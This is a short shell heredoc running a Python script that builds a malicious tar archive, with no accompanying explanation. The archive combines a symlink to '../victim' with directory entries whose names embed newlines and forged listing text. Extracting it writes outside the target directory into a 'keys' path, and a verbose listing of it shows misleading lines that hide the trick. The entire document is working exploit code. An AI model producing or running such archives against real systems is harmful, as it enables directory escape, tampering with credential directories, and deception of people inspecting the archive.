python3 - <<'EOF'
import io, sys, tarfile
out = io.BytesIO()
with tarfile.open(fileobj=out, mode="w") as tar:
    def add(name, kind=tarfile.REGTYPE, link="", mode=0o644, data=b""):
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname, entry.mode, entry.size = kind, link, mode, len(data)
        tar.addfile(entry, io.BytesIO(data))
    add("app", data=b"x")
    add("l", tarfile.SYMTYPE, "../victim")
    add("x\ndrwxrwxrwx 2 0 0 0 Jan  1  1970 .", tarfile.DIRTYPE, mode=0o755)
    add("x\ndrwxrwxrwx 2 0 0 0 Jan  1  1970 ./l", tarfile.DIRTYPE, mode=0o755)
    add("x\ndrwxrwxrwx 2 0 0 0 Jan  1  1970 ./l/keys", tarfile.DIRTYPE, mode=0o500)
sys.stdout.buffer.write(out.getvalue())
EOF
